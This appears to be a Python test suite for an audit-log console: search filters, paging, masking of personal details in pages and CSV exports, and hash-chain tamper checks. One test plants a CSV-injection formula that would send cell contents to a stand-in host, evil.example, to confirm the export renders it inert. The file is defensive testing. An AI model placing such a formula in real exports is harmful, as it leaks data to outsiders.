"""The auditor's pages: what is sought is found, the chain is walked, and what is taken out is noted and harmless."""

import csv
import io
from datetime import date

import pytest
from sqlalchemy import event, select, text
from typer.testing import CliRunner
from uuid_utils.compat import uuid7

from dispatch.approval.case import find_case
from dispatch.approval.dispatch_many import begin_many
from dispatch.approval.lodge import lodge
from dispatch.approval.pickup_row import pickup_of
from dispatch.approval.release import hold
from dispatch.audit import Deed, note, verify
from dispatch.auditing import numbers, whose
from dispatch.auditing.look import PAGE, Sought, look_through
from dispatch.batch import Kind
from dispatch.cells import harmless
from dispatch.hall_time import SHANGHAI
from dispatch.packing.hand_over import HandOver
from dispatch.staff.role import Role
from dispatch.zero_visits.at_window import pull
from tests.rooms.on_the_road import Road, as_given
from zhuandi import audit as commands


def _write(world, by, deed, subject, detail=""):
    with world.begin() as session:
        note(world, session, by, deed, subject, detail)


def _subjects(world, **sought):
    return [line.subject for line in look_through(world, Sought(**sought)).lines]


def test_what_is_sought_is_found_newest_first(world):
    _write(world, "li", Deed.REVEAL, "case:1")
    _write(world, "wang", Deed.PRINT, "case:2")
    _write(world, "li", Deed.PRINT, "shipment:3")
    assert _subjects(world) == ["shipment:3", "case:2", "case:1"]
    assert _subjects(world, by="li") == ["shipment:3", "case:1"]
    assert _subjects(world, deed=Deed.PRINT, subject="case:") == ["case:2"]
    assert _subjects(world, subject="ca%") == []
    today = world.now().astimezone(SHANGHAI).date()
    assert len(_subjects(world, day=today)) == 3
    assert _subjects(world, day=date(2020, 1, 1)) == []


def test_the_next_page_begins_where_this_one_ends(world):
    with world.begin() as session:
        for place in range(PAGE + 3):
            note(world, session, "li", Deed.PRINT, f"case:{place}")
    first = look_through(world, Sought())
    second = look_through(world, Sought(), first.before)
    assert [line.seq for line in (*first.lines, *second.lines)] == list(range(PAGE + 3, 0, -1))
    assert second.before is None


def test_the_auditor_filters_by_the_url_and_a_senseless_one_asks_nothing(world, person):
    _write(world, "li", Deed.REVEAL, "case:42", "回访核对")
    auditor = person(Role.AUDITOR)
    page = auditor.get("/console/audit?deed=reveal&by=li&subject=case:42").text
    assert "回访核对" in page
    assert "case:42" not in auditor.get("/console/audit?deed=print").text
    assert auditor.get("/console/audit?day=yesterday&deed=none").status_code == 200
    assert auditor.get("/console/audit?before=-1").status_code == 422  # a page, and none that a link leads to


@pytest.fixture
def road(post, drain, decided):
    """Two cases in one envelope, one in another; all went out on one posting list."""
    road = Road(post.world, drain)
    road.hand_over(decided("A-1"), decided("A-2"), decided("B-1", slip={"detail": "鹤溪路9号"}))
    return road


def test_who_looked_at_a_case_is_found_by_its_number_and_by_its_waybills(road, person):
    """An auditor never sees a case's id, and the filter took nothing else."""
    clerk, auditor = person(Role.WINDOW), person(Role.AUDITOR)
    for case_no in ("A-1", "B-1"):
        assert clerk.post(f"/console/case/{case_no}/reveal", {"reason": f"回访{case_no}"}).status_code == 200
    page = auditor.get("/console/audit", params={"deed": "reveal", "subject": "A-1"}).text
    assert ("回访A-1" in page, "回访B-1" in page) == (True, False)
    assert ">A-1</a>" in page
    with road.world.reading() as session:
        subject = find_case(session, "A-1").subject
    by_waybill = auditor.get("/console/audit", params={"deed": "reveal", "subject": road.number("A-1").lower()}).text
    assert ("回访A-1" in by_waybill, "回访B-1" in by_waybill) == (True, False)
    found = {line.subject.partition(":")[0] for line in look_through(road.world, Sought(subject="A-1")).lines}
    assert found >= {"case", "shipment", "hand_over"}
    mine = [
        line for line in look_through(road.world, Sought(subject="A-1")).lines if line.subject.startswith("case:")
    ]
    assert {(line.subject, line.number) for line in mine} == {(subject, "A-1")}
    assert look_through(road.world, Sought(subject="A")).lines == [], "a number is whole, or it is none"


def test_a_waybill_stands_for_its_envelope_with_the_cases_in_it_and_for_no_other(road, person):
    found = {line.number for line in look_through(road.world, Sought(subject=road.number("B-1"))).lines}
    assert found <= {"B-1", road.number("B-1"), *_lists(road.world), ""}
    assert road.number("B-1") in {
        line.number
        for line in look_through(road.world, Sought(subject="B-1")).lines
        if line.subject[:8] == "shipment"
    }


def _lists(world):
    with world.reading() as session:
        return list(session.scalars(select(HandOver.number)))


@pytest.mark.parametrize(
    ("query", "asked"),
    [
        (numbers._SUBJECTS, {"asked": ["A-1"]}),
        (numbers._NUMBERS, {"ids": [uuid7()]}),
        (whose._WHOSE, {"ids": [uuid7()], "numbers": ["9800000000001"]}),
    ],
)
def test_a_number_is_looked_up_by_indexes_alone(world, query, asked):
    """The tables grow for years."""
    with world.begin() as session:
        session.execute(text("SET LOCAL enable_seqscan = off"))
        plan = "\n".join(session.scalars(text(f"EXPLAIN {query}"), asked))
    assert "Seq Scan" not in plan, plan


def test_the_export_holds_the_number_beside_the_subject(road, person):
    person(Role.WINDOW).post("/console/case/A-1/reveal", {"reason": "回访"})
    answer = person(Role.AUDITOR).post("/console/audit/export", {"deed": "reveal", "subject": "A-1"})
    head, row = csv.reader(io.StringIO(answer.content.decode("utf-8-sig")))
    assert (head[5], row[5], row[6]) == ("编号", "A-1", "回访")


NAME, MOBILE, STRANGERS_ID = "胡样式", "13900003301", "330106199001010018"
TYPED = f"{NAME}欠费，电话{MOBILE}，代领人{STRANGERS_ID}"


def _in_clear(told):
    return [one for one in (NAME, MOBILE, STRANGERS_ID) if one in told]


@pytest.fixture
def person_in_case(world, decided):
    """A case whose applicant a clerk names in what is typed; its id."""
    lodge(world, decided("H-1", applicant_name=NAME, slip={"recipient_name": NAME, "phone": MOBILE}), "test")
    with world.reading() as session:
        return find_case(session, "H-1").id


def test_what_a_clerk_typed_of_a_person_is_masked_on_the_page_and_in_whatever_is_taken_out(
    world, person, person_in_case, monkeypatch, tmp_path
):
    """The auditor has no right to look, and read in the reason of a hold whom the case was for, and the telephone."""
    hold(world, "H-1", TYPED, "li.na")
    auditor, table = person(Role.AUDITOR), tmp_path / "audit.csv"
    page = auditor.get("/console/audit?subject=H-1").text
    taken_out = auditor.post("/console/audit/export", {"subject": "H-1"}).content.decode("utf-8-sig")
    monkeypatch.setattr(commands, "open_world", lambda: as_given(world))
    assert CliRunner().invoke(commands.app, ["export", str(table)]).exit_code == 0
    for told in (page, taken_out, table.read_text("utf-8-sig")):
        assert "暂缓寄递：胡**欠费，电话139******01，代领人" in told
        assert _in_clear(told) == []
    assert "详情（已脱敏）" in taken_out, "it is not what the chain's digests are of"
    assert verify(world).sound, "what is shown is masked; what is kept is as it was"


def test_it_is_masked_whatever_the_deed_was_done_to(world, post, drain, decided, person_in_case):
    """Reprints name an envelope, a posting list or a batch holds many, a stranger's parcel is known by its number."""
    pull(world, "H-1", "li.na")
    road = Road(post.world, drain)
    road.hand_over(decided("S-1", applicant_name=NAME, slip={"recipient_name": NAME, "phone": MOBILE}))
    with world.reading() as session:
        pickup = pickup_of(session, find_case(session, "H-1"))
        [handed_over] = session.scalars(select(HandOver))
    held = begin_many(world, Kind.HOLD, [person_in_case], "li.na", "欠费")
    subjects = [pickup.subject, road.shipment("S-1").subject, handed_over.subject, f"batch:{held}", f"print:{held}"]
    for subject in (*subjects, f"parcel:ems:{road.number('S-1')}"):
        _write(world, "li.na", Deed.CHANGE, subject, TYPED)
        _write(world, "li.na", Deed.REPRINT, subject, f"补打 1：{TYPED}")
    shown = [line.detail for line in look_through(world, Sought()).lines if "欠费，" in line.detail]
    assert len(shown) == 12
    assert [told for told in shown if _in_clear(told)] == []


def test_a_mobile_and_an_id_number_are_masked_where_it_is_known_of_nobody(world):
    _write(world, "li.na", Deed.CHANGE, "push:1", f"来电{MOBILE}，{STRANGERS_ID}")
    [line] = look_through(world, Sought()).lines
    assert line.detail == f"来电139******01，{'*' * 18}"


def test_a_page_of_many_lines_asks_no_more_than_a_page_of_one(world, decided):
    """A statement for each line would be hundreds of thousands for an export."""
    asked = []
    event.listen(world.sessions.kw["bind"], "before_cursor_execute", lambda *heard: asked.append(heard[2]))

    def statements():
        asked.clear()
        look_through(world, Sought(deed=Deed.CHANGE))
        return len(asked)

    counted = []
    for number in range(12):
        lodge(world, decided(f"M-{number}"), "test")
        hold(world, f"M-{number}", "蓝小雨欠费", "li.na")
        counted.append(statements())
    assert len(set(counted)) == 1, counted


def test_nobody_is_looked_for_by_name_in_the_log_either(person):
    """It would stay in the address."""
    auditor = person(Role.AUDITOR)
    assert auditor.get("/console/audit?subject=蓝小雨").headers["location"] == "/console/audit"
    assert "不按姓名" in auditor.get("/console/audit").text


def test_the_chain_is_walked_at_the_press_of_a_button_and_against_what_was_written_down(world, person):
    auditor = person(Role.AUDITOR)
    anchor = verify(world).head
    assert anchor in auditor.post("/console/audit/verify", {"anchor": anchor}).text
    assert "未见改动" in auditor.post("/console/audit/verify").text
    assert "已不在审计日志里" in auditor.post("/console/audit/verify", {"anchor": "9:0123456789abcdef"}).text
    with world.begin() as session:
        session.execute(text("SET LOCAL session_replication_role = replica"))
        session.execute(text("UPDATE audit_log SET by = 'x' WHERE seq = 1"))
    assert "第 1 条被改动过" in auditor.post("/console/audit/verify").text


def test_an_export_is_noted_and_a_formula_in_it_stays_text(world, person):
    """CSV injection: whoever opens the table must not run what somebody typed."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"看")'
    _write(world, "li", Deed.REVEAL, "case:1", formula)
    auditor = person(Role.AUDITOR)
    answer = auditor.post("/console/audit/export", {"deed": "reveal"})
    assert answer.headers["content-disposition"].startswith("attachment")
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert [row[6] for row in rows[1:]] == [f"'{formula}"]
    assert look_through(world, Sought(deed=Deed.EXPORT)).lines[0].by == "auditor"


@pytest.mark.parametrize("text", ["=1+1", "+86", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1+1", "＝1", "＠x"])
def test_whatever_a_spreadsheet_would_calculate_is_held_as_text(text):
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "张三", "331127-1", "a=b"])
def test_plain_text_stays_as_it_is(text):
    assert harmless(text) == text
